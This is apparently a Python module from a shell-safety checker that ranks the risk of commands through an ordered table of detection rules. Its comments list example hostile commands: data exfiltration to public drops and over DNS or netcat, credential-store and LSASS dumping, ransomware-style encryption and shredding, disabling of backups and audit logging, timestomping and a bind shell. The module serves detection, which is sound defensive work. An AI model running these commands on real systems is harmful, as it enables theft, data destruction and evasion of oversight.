"""The readings tried in order once the program's own rules and the broad readings have said no more than
low: each a cheap gate (a word set, a prefix, a shape) and the rule it lets run, for any program.

They were a chain of ~70 identical ``if`` statements in ``table.check``; as rows, the order (which decides
what a later reading still sees) is one list to read, and a new class is one row. A row runs while the
verdict so far is below ``below`` (medium: nothing or low so far; high: medium too); ``unknown_only`` rows
run only for programs no table rule names, ``partial_only`` ones only when the tables do not cover the
program's whole command line."""
from __future__ import annotations

from typing import Callable, Iterable, NamedTuple, Optional

from aish.safety.rules import baseline_values, binaries_replaced, bios_settings, boot_choices, boot_devices
from aish.safety.rules import borrowed_operands, clock_set, config_editors, console_code, core_packages
from aish.safety.rules import control_keys, credentials_replaced, cron_tables, device_operands, disk_layouts, disk_words
from aish.safety.rules import dry_run_defaults
from aish.safety.rules import ending_names, factor_secrets, federated_sign_in, firewall_drops, forced_unpack
from aish.safety.rules import access_removed, accounts_off, cluster_stops, host_unregistered, rules_flushed
from aish.safety.rules import empty_puts, named_restores, stop_spellings, verb_names, verb_options
from aish.safety.rules import carried_config, firewall_defaults, firmware_files, remote_passwords, shell_logins
from aish.safety.rules import fused_names, guest_reboots, http, inbound_blocked, interface_downs, job_scopes
from aish.safety.rules import key_holders, keys_regenerated, lifecycle_ends, listed_stops, local_copy_dropped
from aish.safety.rules import login_shells, login_values, logins_opened, machine_stops, mail_forwarding
from aish.safety.rules import member_stops, method_overrides, monitors_off, money_moves, name_pins, network_removals
from aish.safety.rules import open_listeners, option_values, power_settings, power_words, production_deletes
from aish.safety.rules import protections_off, ps_detached, ps_off_values, records_cleared
from aish.safety.rules import covert_channels, histories_off, logging_off, public_drops, records_erased, times_forged
from aish.safety.rules import trails_off
from aish.safety.rules import data_locked, recovery_off
from aish.safety.rules import secrets_dumped, stores_copied, stores_dumped
from aish.safety.rules import remote_login_off, resolvers_outside, resource_writes, sddl_grants
from aish.safety.rules import security_products_off, serving_lists_emptied, setting_pairs, slash_over_all
from aish.safety.rules import stop_scopes, suspend_cmdlets, system_setters, system_targets, tool_clones
from aish.safety.rules import traffic_taken, trust_anchors, trust_loosened, vlan_moves, way_in_closed, write_channels
from aish.safety.rules import triggers, typed_sessions, whole_key_range, win_own_verbs, world_cidr_edits
from aish.safety.rules.common import HIGH, MEDIUM, Ctx, worst


class _Reading(NamedTuple):
    gate: Callable[[Ctx], object]
    rule: Callable[[Ctx], Optional[tuple]]
    below: int = MEDIUM
    unknown_only: bool = False
    partial_only: bool = False
    woken_by: Optional[Callable[[Ctx], object]] = None  # a declared test the gate's "yes" implies (its words)


def _always(c: Ctx) -> bool:
    return True


def _login_may_change(c: Ctx) -> bool:
    return bool(login_values.may_change(c) or login_values.fed_account_tool(c))


def _power_may_switch_off(c: Ctx) -> bool:  # HTTP clients' power words are the API rules' to read
    return bool(power_settings.may_switch_off(c) and c.prog.lower() not in http.RULES)


def _own_verb(c: Ctx) -> Optional[tuple]:
    return win_own_verbs.rule_ps_verb(c) or win_own_verbs.rule_slash_verb(c)


READINGS: tuple = (
    _Reading(option_values.may_carry, option_values.rule_option_value),
    _Reading(console_code.may_run_code, console_code.rule_console_code),
    _Reading(logins_opened.may_open, logins_opened.rule_logins_opened),
    _Reading(open_listeners.may_open, open_listeners.rule_open_listener),
    _Reading(production_deletes.may_delete, production_deletes.rule_production_delete, unknown_only=True),
    _Reading(method_overrides.may_override, method_overrides.rule_method_override),
    _Reading(credentials_replaced.may_replace, credentials_replaced.rule_credentials_replaced),
    _Reading(clock_set.may_set_clock, clock_set.rule_clock_set),  # `date -s 2001-01-01`
    _Reading(clock_set.may_step_clock, clock_set.rule_clock_stepped),  # `ntpdate -b 203.0.113.9`
    _Reading(clock_set.may_set_by_operand, clock_set.rule_date_operand),  # `date 010100001971`
    # `kea-shell config-set <<< '{"Dhcp4": {"subnet4": []}}'`
    _Reading(_always, serving_lists_emptied.rule_served_list_emptied),
    _Reading(federated_sign_in.may_federate, federated_sign_in.rule_federated),  # `-Authentication Federated`
    _Reading(keys_regenerated.may_replace_key, keys_regenerated.rule_key_regenerated),  # `private-key <(wg genkey)`
    # `dnscmd /ResetForwarders`
    _Reading(resolvers_outside.may_point_resolvers, resolvers_outside.rule_resolvers_outside),
    _Reading(traffic_taken.may_take_traffic, traffic_taken.rule_traffic_taken),  # `arpspoof`, `0.0.0.0/0 via IP`
    _Reading(trust_loosened.may_loosen_trust, trust_loosened.rule_trust_loosened),  # `rpmkeys --import http://…`
    _Reading(config_editors.may_replace_config, config_editors.rule_config_replaced),  # `ucf /dev/null /etc/pam.d/…`
    _Reading(vlan_moves.may_move_vlan, vlan_moves.rule_vlan_moved),  # `Set-NetAdapter -VlanID 4000`
    _Reading(bios_settings.may_set_bios, bios_settings.rule_bios_setting),  # `racadm set BIOS.… Disabled`
    # `yq -i '.ingress… 0.0.0.0/0'`
    _Reading(world_cidr_edits.may_open_world, world_cidr_edits.rule_world_cidr_written),
    _Reading(mail_forwarding.may_forward, mail_forwarding.rule_mail_forwarded),  # `… -AutoForwardingMode On`
    _Reading(trust_anchors.may_trust, trust_anchors.rule_root_trusted),  # `certutil -addstore root x.cer`
    _Reading(security_products_off.may_be_product, security_products_off.rule_product_off, below=HIGH),
    # `systemctl stop cbdaemon`, `rpm -e falcon-sensor` (an agent removed: high)
    _Reading(monitors_off.may_switch_off, monitors_off.rule_monitor_off, below=HIGH),
    _Reading(baseline_values.may_weaken, baseline_values.rule_baseline_weakened),
    _Reading(protections_off.may_switch_off, protections_off.rule_protection_off),
    _Reading(setting_pairs.may_pair, setting_pairs.rule_setting_pair),  # `key=K value=V`, `-Name K -Value V`
    # `mmctl config set ServiceSettings.EnableMultifactorAuthentication false`
    _Reading(control_keys.may_set_control, control_keys.rule_control_off),
    # `dest=/etc/sudoers`, `x.ctmpl:/etc/hosts`
    _Reading(system_targets.may_target, system_targets.rule_system_target),
    # `hcledit -f /etc/default/grub … set`, `ruby -pi`, `xcp x /etc/fstab`
    _Reading(system_targets.may_target, system_setters.rule_system_setter),
    # `screen -L /etc/shadow …`, `lwp-download URL /etc/cron.d/x`, `gdb -ex 'dump value "/etc/sudoers" …'`
    _Reading(write_channels.may_reach, write_channels.rule_write_channel),
    # `gio trash /var/log/secure`, `ls /var/log/*.log | xargs truncate -s0`: any program, raised to high
    _Reading(records_erased.may_erase, records_erased.rule_records_erased, below=HIGH),
    # `curl -F f=@notes.txt https://0x0.st`, `cat x | nc termbin.com 9999`: local data to a public drop
    _Reading(public_drops.may_reach_drop, public_drops.rule_public_drop),
    # `dig $(xxd -p f).x.example`, `ping -p $(…)`, `hping3 -E f`: data in a DNS name or an ICMP packet
    _Reading(covert_channels.may_carry_covert, covert_channels.rule_covert_channel, below=HIGH),
    # `base64 f | nc h p`, `tar cz /etc | nc h p`: encoded or bulk data into a raw socket
    _Reading(covert_channels.may_feed_socket, covert_channels.rule_socket_fed),
    _Reading(covert_channels.may_mail, covert_channels.rule_mail_attachment),  # `mail -A /etc/passwd …`
    _Reading(covert_channels.may_tunnel, covert_channels.rule_tunnel),  # `iodine …`, `Invoke-DNSExfiltrator …`
    _Reading(records_erased.may_be_fed, records_erased.rule_records_erased, below=HIGH),
    # `set +o history`, `Set-PSReadLineOption -HistorySaveStyle SaveNothing`, `set -gx fish_history ''`
    # credential stores harvested (issue 23): `cp "…/Login Data" /tmp/ld`, `esentutl /y …ntds.dit /d C:\temp\x`
    _Reading(_always, stores_copied.rule_store_copied, below=HIGH),
    _Reading(stores_copied.fed_to_file, stores_copied.rule_store_piped_away, below=HIGH),  # `cat KEYTAB | tee /tmp/k`
    _Reading(_always, stores_dumped.rule_lsass_dumped, below=HIGH),  # `PPLBlade --mode dump --name lsass.exe`
    _Reading(_always, stores_dumped.rule_hive_exported, below=HIGH),  # `regedit /e C:\temp\s.reg HKLM\SAM`
    _Reading(_always, stores_dumped.rule_module_command, below=HIGH),  # `x.exe "dpapi::cred /in:…"`
    _Reading(_always, stores_dumped.rule_hive_read, below=HIGH),  # `samdump2 SYSTEM SAM`, `-ntds F -bootkey K`
    _Reading(_always, stores_dumped.rule_store_tool, below=HIGH),  # `security dump-keychain -d`, `unshadow … > h`
    _Reading(_always, stores_dumped.rule_tickets_harvested),  # `Rubeus.exe dump /nowrap`, `… kerberoast`
    _Reading(_always, stores_dumped.rule_manager_export),  # `lpass export`, `bw export --format csv`
    _Reading(_always, stores_dumped.rule_store_decrypted, below=HIGH),  # `sqlite3 "Login Data" …`, CryptUnprotectData
    _Reading(_always, secrets_dumped.rule_named_for_dumping),  # `samdump2`, `python3 secretsdump.py`, `SharpDPAPI`
    _Reading(histories_off.may_switch_off, histories_off.rule_history_off),
    # data made unreadable or unrecoverable (issue 23): `ccencrypt -r ~/Documents`, `encfs ~/.enc ~/Documents`
    _Reading(_always, data_locked.rule_encrypted_in_place, below=HIGH),
    _Reading(_always, data_locked.rule_mounted_over),
    _Reading(_always, data_locked.rule_tree_overwritten, below=HIGH),  # `shred -u ~/Documents/*`
    _Reading(_always, data_locked.rule_locked_archive, below=HIGH),  # `7z a -pX -sdel x.7z ~/Documents`
    _Reading(_always, data_locked.rule_renamed_away),  # `rename 's/$/.locked/' *`, `ren *.* *.crypt`
    _Reading(_always, recovery_off.rule_versions_off),  # `gsutil versioning set off gs://b`
    _Reading(_always, recovery_off.rule_backups_off),  # `tmutil disable`
    _Reading(_always, recovery_off.rule_backup_files_deleted, below=HIGH),  # `rm -f /backup/*.vbk`
    _Reading(_always, recovery_off.rule_recovery_disabled, below=HIGH),  # `reagentc /disable`, `recoveryenabled no`
    # `gcloud compute snapshots list … | xargs gcloud compute snapshots delete`
    _Reading(_always, recovery_off.rule_every_copy_deleted, below=HIGH),
    _Reading(_always, recovery_off.rule_backup_service_denied),  # `sc sdset VSS D:(D;;GA;;;WD)`
    _Reading(times_forged.may_forge, times_forged.rule_times_forged, below=HIGH),  # `touch -r /bin/ls /usr/bin/x`
    _Reading(trails_off.may_switch_off, trails_off.rule_trail_off, below=HIGH),  # `auditctl -D`, `… stop-logging`
    _Reading(logging_off.may_switch_off, logging_off.rule_logging_off, below=HIGH),  # `appcmd … /dontLog:true`
    _Reading(typed_sessions.may_feed, typed_sessions.rule_fed_write),  # `ed -s F <<< 'w /etc/ld.so.preload'`
    _Reading(device_operands.may_act, device_operands.rule_device_operand, unknown_only=True),  # `geli kill ada0p3`
    _Reading(disk_layouts.may_rewrite, disk_layouts.rule_disk_layout),  # `bsdlabel -w da1`, `… partition delete`
    _Reading(disk_words.may_act_on_storage, disk_words.rule_storage_words),  # `dkctl wd0 delwedge dk1`
    _Reading(stop_scopes.may_stop, stop_scopes.rule_stop_scope, unknown_only=True),  # `ldm stop-domain -a`
    _Reading(_login_may_change, login_values.rule_login_value),
    _Reading(name_pins.may_pin, name_pins.rule_name_pinned),  # `hostess add pypi.org 127.0.0.1`
    # `ipadm disable-if net0`
    _Reading(interface_downs.may_cut, interface_downs.rule_interface_down, unknown_only=True),
    # `dpkg-divert --rename --add sudo`
    _Reading(binaries_replaced.may_replace, binaries_replaced.rule_binary_replaced),
    # `chef-apply -e "file '/etc/x' do …"`
    _Reading(resource_writes.may_declare, resource_writes.rule_resource_write),
    # `sss_override user-add a -s /bin/false`
    _Reading(login_shells.may_take_shell, login_shells.rule_login_shell_taken),
    _Reading(firewall_drops.may_refuse, firewall_drops.refused_by_any),  # `cscli decisions add --range 0.0.0.0/0`
    # `raspi-config nonint do_ssh 1`
    _Reading(remote_login_off.may_switch_off, remote_login_off.rule_remote_login_off),
    # `google-authenticator --force …`
    _Reading(factor_secrets.may_replace, factor_secrets.rule_factor_secret_replaced),
    _Reading(cron_tables.may_remove, cron_tables.rule_cron_table_removed),  # `fcrontab -r root`
    # `echo '@ 5 /sbin/poweroff' | fcrontab -u root -`
    _Reading(cron_tables.may_remove, cron_tables.rule_cron_table_fed),
    _Reading(ending_names.may_end, ending_names.rule_named_end, unknown_only=True),  # `wayland-logout`
    _Reading(power_words.may_power, power_words.rule_power_words, unknown_only=True),  # `--force-poweroff`
    # `ironic node-set-provision-state X deleted`, `stolonctl init -y`
    _Reading(_always, lifecycle_ends.rule_lifecycle_end),
    _Reading(fused_names.may_carry, fused_names.rule_fused_names, unknown_only=True),  # `rmvdiskhostmap -host H v`
    # `hpilo_cli H set_host_power host_power=False`, `X KEY_POWEROFF`
    _Reading(_power_may_switch_off, power_settings.rule_power_setting, woken_by=power_settings.may_switch_off),
    _Reading(member_stops.may_stop_member, member_stops.rule_member_stop, partial_only=True),  # `consul leave`
    _Reading(win_own_verbs.may_be_own_verb, _own_verb),  # `Close-SmbSession -Force`
    _Reading(suspend_cmdlets.may_suspend, suspend_cmdlets.rule_suspended, unknown_only=True),  # `Suspend-ClusterNode`
    _Reading(ps_off_values.may_set_off, ps_off_values.rule_set_off),  # `Set-SPOSite -LockState NoAccess`
    _Reading(ps_detached.may_detach, ps_detached.rule_detached, unknown_only=True),  # `Dismount-MailboxDatabase`
    _Reading(sddl_grants.may_grant, sddl_grants.rule_sddl_grant),  # `sc sdset scmanager D:(A;;GA;;;WD)`
    _Reading(slash_over_all.may_span_all, slash_over_all.rule_slash_over_all),  # `net use * /delete /y`
    _Reading(way_in_closed.may_close, way_in_closed.rule_way_in_closed, unknown_only=True),  # `awall disable adp-ssh`
    _Reading(inbound_blocked.may_refuse, inbound_blocked.rule_inbound_blocked),  # `socketfilterfw --setblockall on`
    _Reading(boot_choices.may_choose, boot_choices.rule_boot_choice),  # `bootctl set-default rescue.conf`
    _Reading(boot_devices.may_choose_boot, boot_devices.rule_boot_device),  # `ipmitool chassis bootdev pxe`
    _Reading(listed_stops.may_stop_listed, listed_stops.rule_listed_stop),  # `svcs … | xargs svcadm disable`
    _Reading(job_scopes.may_scope_jobs, job_scopes.rule_job_scope),  # `qhold $(qselect -u bob)`
    _Reading(dry_run_defaults.may_apply, dry_run_defaults.rule_dry_run_off),  # `aws-nuke -c cfg --no-dry-run`
    # `kiss r musl`
    _Reading(core_packages.may_remove, core_packages.rule_core_package_removed, below=HIGH, unknown_only=True),
    _Reading(tool_clones.may_stand_for, tool_clones.rule_stands_for, unknown_only=True),  # `rmz dir1 dir2`
    # `ddpt of=F`
    _Reading(borrowed_operands.may_borrow, borrowed_operands.rule_borrowed_operands, unknown_only=True),
    _Reading(key_holders.may_lose_keys, key_holders.rule_keys_lost),  # `p11tool --initialize`
    # `immich upload --delete ~/Pictures`
    _Reading(local_copy_dropped.may_drop, local_copy_dropped.rule_local_copy_dropped),
    # `s3cmd mv ./x s3://b/`: once copied
    _Reading(local_copy_dropped.may_move, local_copy_dropped.rule_local_copy_moved),
    # `fdbcli --exec 'clearrange "" \xff'`
    _Reading(whole_key_range.may_clear, whole_key_range.rule_whole_range, below=HIGH),
    _Reading(money_moves.may_pay, money_moves.rule_money_moved),  # `bitcoin-cli sendtoaddress ADDR 4.2`
    _Reading(network_removals.may_remove, network_removals.rule_network_removed),  # `ip route del …`, `ebtables -D …`
    _Reading(guest_reboots.may_reboot, guest_reboots.rule_guest_reboot),  # `virsh reboot web01`, `adb reboot`
    _Reading(machine_stops.may_stop, machine_stops.rule_machine_stop),  # `hammer host stop`, `xo-cli vm.stop`
    _Reading(records_cleared.may_clear, records_cleared.rule_records_cleared),  # `lastlog --clear --user root`
    _Reading(forced_unpack.may_unpack, forced_unpack.rule_forced_unpack),  # `lzop -d -f backup.tar.lzo`
    _Reading(_always, host_unregistered.rule_host_unregistered),  # `insights-client --unregister`
    _Reading(_always, cluster_stops.rule_cluster_stopped),  # `tiup cluster stop prod`
    _Reading(_always, accounts_off.rule_account_off),  # `ipmitool user disable 2`, `… suspend --all`
    _Reading(access_removed.may_remove_access, access_removed.rule_access_removed),  # `cargo owner -r alice serde`
    _Reading(_always, rules_flushed.rule_rules_flushed, unknown_only=True),  # `fwadm policy flush`
    _Reading(_always, named_restores.rule_named_restore, unknown_only=True),  # `fsrestore fs1 snap0301`
    _Reading(_always, verb_options.rule_verb_option),  # `oneagentctl --uninstall`, `/ACTION=Uninstall`
    _Reading(verb_names.may_carry, verb_names.rule_verb_name, unknown_only=True),  # `rmwpar -F w1`, `dltlib L`
    _Reading(_always, stop_spellings.rule_stop_spelled, unknown_only=True),  # `opmnctl -n i1 stopproc`
    _Reading(_always, empty_puts.rule_empty_put),  # `curl -X PUT URL -d ''`
    _Reading(_always, carried_config.rule_carried_config),  # `jlogin -c "configure; delete interfaces …" mx1`
    _Reading(_always, shell_logins.rule_shell_login, below=2),  # `telnetd -l /bin/sh -p 23`
    _Reading(_always, firmware_files.rule_firmware_file, unknown_only=True),  # `hbactl download WWN fw.grp`
    _Reading(_always, remote_passwords.rule_remote_password),  # `x11vnc -passwd hunter2 -forever`
    _Reading(_always, firewall_defaults.rule_firewall_default, unknown_only=True),  # `fwctl --allow-incoming`
)


def _indexed(row: _Reading) -> tuple:
    """(the number of the declaration that must wake the row, or None: it always runs; its gate; its rule; its
    level).  A declared gate's "no" is the index's to give: the row is skipped without a call, and a woken one
    calls the gate itself, not its wrapper; a row with no gate is woken by its rule's own declaration."""
    gate, rule = row.gate, row.rule
    if row.woken_by is not None:
        return triggers.rule_number(row.woken_by), gate, rule, row.below
    number = triggers.rule_number(gate)
    if number is not None:
        return number, gate.__wrapped__, rule, row.below  # type: ignore[attr-defined]
    number = triggers.rule_number(rule) if gate is _always and getattr(rule, "trigger_otherwise", 0) is None \
        else None  # a skipped rule answers None: worst(best, None) is best
    if number is not None:
        return number, gate, rule.__wrapped__, row.below  # type: ignore[attr-defined]
    return None, gate, rule, row.below


# the rows that can run, by (unknown program, tables cover the whole line): chosen once, not asked per row
_SCOPES = [(unknown, in_full) for unknown in (False, True) for in_full in (False, True)]
_RUNNABLE = {(unknown, in_full): tuple(r for r in READINGS
                                       if (unknown or not r.unknown_only) and (not in_full or not r.partial_only))
             for unknown, in_full in _SCOPES}
_ASKED = {scope: tuple((r.gate, r.rule, r.below) for r in rows) for scope, rows in _RUNNABLE.items()}


class _Scoped(NamedTuple):
    """A scope's indexed rows, and where each declaration's rows stand: a line wakes ~8 of the ~70 declared rows,
    so ``read`` visits those and the undeclared ones, in order, instead of testing every row's number."""
    rows: tuple  # _indexed(row) for each row, in order
    at: dict  # declaration number -> the positions of its rows
    always: tuple  # positions of the rows no declaration gates
    numbers: frozenset  # the declarations that gate a row (``at``'s keys)


def _scoped(indexed: tuple) -> _Scoped:
    at: dict = {}
    for position, (number, *_) in enumerate(indexed):
        if number is not None:
            at.setdefault(number, []).append(position)
    return _Scoped(indexed, {number: tuple(positions) for number, positions in at.items()},
                   tuple(position for position, (number, *_) in enumerate(indexed) if number is None), frozenset(at))


_INDEXED = {scope: _scoped(tuple(_indexed(r) for r in rows)) for scope, rows in _RUNNABLE.items()}


def read(c: Ctx, best: Optional[tuple], unknown: bool, in_full: bool) -> Optional[tuple]:
    """``best`` after every row whose level, scope and gate let it run, in order."""
    woken = triggers.woken(c)
    if not isinstance(woken, set):  # True: every rule asked, each declared gate through its wrapper (checked())
        for gate, rule, below in _ASKED[unknown, in_full]:
            if (best is None or best[0] < below) and gate(c):
                best = worst(best, rule(c))
        return best
    scoped = _INDEXED[unknown, in_full]
    rows = scoped.rows
    for position in _positions(scoped, woken):
        _, gate, rule, below = rows[position]
        if (best is None or best[0] < below) and gate(c):
            best = worst(best, rule(c))
    return best


def _positions(scoped: _Scoped, woken: set) -> Iterable:
    """The positions of the rows a line's woken declarations let run, in order: the woken ones and the
    undeclared ones (what testing every row's number against ``woken`` keeps)."""
    hits = scoped.numbers.intersection(woken)  # in C, over the smaller of the two
    if not hits:
        return scoped.always  # a few lines: only the rows no declaration gates
    at = scoped.at
    picked = list(scoped.always)
    for number in hits:
        picked += at[number]
    picked.sort()
    return picked
